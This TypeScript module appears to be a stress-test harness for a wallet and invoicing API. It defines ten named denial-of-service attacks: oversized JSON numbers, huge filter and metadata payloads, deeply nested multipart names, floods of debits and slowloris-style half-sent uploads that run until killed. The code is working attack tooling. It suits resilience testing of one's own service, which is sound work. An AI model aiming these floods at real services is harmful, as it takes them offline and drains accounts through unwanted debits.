import { connect } from 'node:net';
import autocannon from 'autocannon';

/** What one caller does to the service, and how many of its connections do it. */
export const ATTACKS = {
  number: 'a body of 1 MiB with one long number, no key, 4 connections',
  searches: '12 searches with 100 or 5 `not_contains` each',
  pdf: 'the PDF of one invoice, 4 connections',
  openapi: '/openapi.yaml, no key, 4 connections',
  batches: '8 batches of 1,000 debits',
  debits: '600 connections of debits',
  list: '16,000 strings in an `in` list, 4 connections',
  metadata: 'metadata of 7,000 keys, 4 connections',
  multipart: 'nested names in multipart forms, 4 connections',
  uploads: '200 uploads of 1 MiB, half sent',
} as const;
export type AttackName = keyof typeof ATTACKS;

/** Who attacks, and what it has. */
export interface Attacker {
  url: string;
  apiKey: string;
  customerId: string;
  walletIds: string[];
  invoiceId: string;
}

interface Request {
  method: 'GET' | 'POST' | 'PUT';
  path: string;
  headers?: Record<string, string>;
  body?: string;
}

const FOR_EVER_SECONDS = 3600;
const JSON_TYPE = { 'content-type': 'application/json' };
let keys = 0;

/** Begins an attack that does not end by itself: whoever runs it ends its process. */
export function attack(name: AttackName, attacker: Attacker): void {
  const { walletIds, invoiceId } = attacker;
  const key = { 'x-api-key': attacker.apiKey };
  const json = { ...key, ...JSON_TYPE };
  const search = (filters: object[]): Request => ({
    method: 'POST',
    path: '/v1/wallets/transactions/search',
    headers: json,
    body: JSON.stringify({ filters }),
  });
  const attacks: Record<AttackName, () => void> = {
    number: () => {
      const body = `{"name":${'1'.repeat(1_048_000)}}`;
      beginFlood(attacker, 4, () => ({ method: 'POST', path: '/v1/customers', headers: JSON_TYPE, body }));
    },
    searches: () => {
      const requests = [search(textFilters(100)), search(textFilters(5))];
      beginFlood(attacker, 12, () => requests[(keys += 1) % 2] as Request);
    },
    pdf: () => beginFlood(attacker, 4, () => ({ method: 'GET', path: `/v1/invoices/${invoiceId}/pdf`, headers: key })),
    openapi: () => beginFlood(attacker, 4, () => ({ method: 'GET', path: '/openapi.yaml' })),
    batches: () => {
      const next = () => JSON.stringify({ debits: Array.from({ length: 1000 }, () => debitOf(walletIds)) });
      beginFlood(attacker, 8, () => ({
        method: 'POST',
        path: '/v1/wallets/debits/batch',
        headers: json,
        body: next(),
      }));
    },
    debits: () => void debits(attacker, 600),
    list: () => {
      const array = Array.from({ length: 16_000 }, (_, index) => index.toString(36));
      const request = search([{ field: 'id', operator: 'in', data_type: 'array', value: { array } }]);
      beginFlood(attacker, 4, () => request);
    },
    metadata: () => {
      const metadata = Object.fromEntries(Array.from({ length: 7000 }, (_, index) => [index.toString(36), '']));
      const body = JSON.stringify({ external_id: 'x', name: 'x', metadata });
      beginFlood(attacker, 4, () => ({ method: 'POST', path: '/v1/customers', headers: json, body }));
    },
    multipart: () => {
      const form = 'multipart/form-data; boundary=x';
      const headers = { ...key, 'x-customer-id': attacker.customerId, 'content-type': form };
      const body = nestedForm();
      beginFlood(attacker, 4, () => ({ method: 'PUT', path: '/account/credits/top-up/settings/', headers, body }));
    },
    uploads: () => {
      for (let index = 0; index < 200; index += 1) sendHalf(attacker);
    },
  };
  attacks[name]();
}

/** Debits over so many connections, each as soon as the last was answered, or at a rate. */
export function debits(
  { url, apiKey, walletIds }: Pick<Attacker, 'url' | 'apiKey' | 'walletIds'>,
  connections: number,
  rate?: { perSecond: number; seconds: number },
): Promise<autocannon.Result> {
  const headers = { 'x-api-key': apiKey, ...JSON_TYPE };
  return flood(
    { url },
    connections,
    () => {
      const { wallet_id, ...body } = debitOf(walletIds);
      return { method: 'POST', path: `/v1/wallets/${wallet_id}/debit`, headers, body: JSON.stringify(body) };
    },
    rate,
  );
}

function beginFlood(attacker: Attacker, connections: number, next: () => Request): void {
  void flood(attacker, connections, next);
}

function flood(
  { url }: { url: string },
  connections: number,
  next: () => Request,
  rate?: { perSecond: number; seconds: number },
): Promise<autocannon.Result> {
  const setupRequest = (request: autocannon.Request): autocannon.Request => ({ ...request, ...next() });
  return new Promise((resolve, reject) => {
    autocannon(
      {
        url,
        connections,
        duration: rate?.seconds ?? FOR_EVER_SECONDS,
        ...(rate ? { overallRate: Math.round(rate.perSecond) } : {}),
        timeout: 60,
        requests: [{ setupRequest }],
      },
      (error: Error | null, result) => (error ? reject(error) : resolve(result)),
    );
  });
}

function debitOf(walletIds: string[]) {
  return {
    wallet_id: walletIds[(keys += 1) % walletIds.length] as string,
    credits: '1',
    transaction_reason: 'MANUAL_BALANCE_DEBIT',
    idempotency_key: `attack-${process.pid}-${keys}`,
  };
}

function textFilters(count: number): object[] {
  return Array.from({ length: count }, (_, index) => ({
    field: 'description',
    operator: 'not_contains',
    data_type: 'string',
    value: { string: `nobody writes ${index}` },
  }));
}

/** As many fields, and names as deep, as 64 KiB hold. */
function nestedForm(): string {
  const names = Array.from({ length: 250 }, (_, index) => `a${'[a]'.repeat(60)}[${index}]`);
  const parts = names.map((name) => `--x\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n1\r\n`);
  return `${parts.join('')}--x--\r\n`;
}

/** An upload that stays half sent; another one where the service has closed it. */
function sendHalf(attacker: Attacker): void {
  const { hostname, port } = new URL(attacker.url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(sendHalf, 1000, attacker));
  socket.write(
    `POST /v1/wallets/debits/batch HTTP/1.1\r\nhost: x\r\nx-api-key: ${attacker.apiKey}\r\n` +
      'content-type: application/json\r\ncontent-length: 1048576\r\n\r\n',
  );
  socket.write(Buffer.alloc(524_288, '['));
}
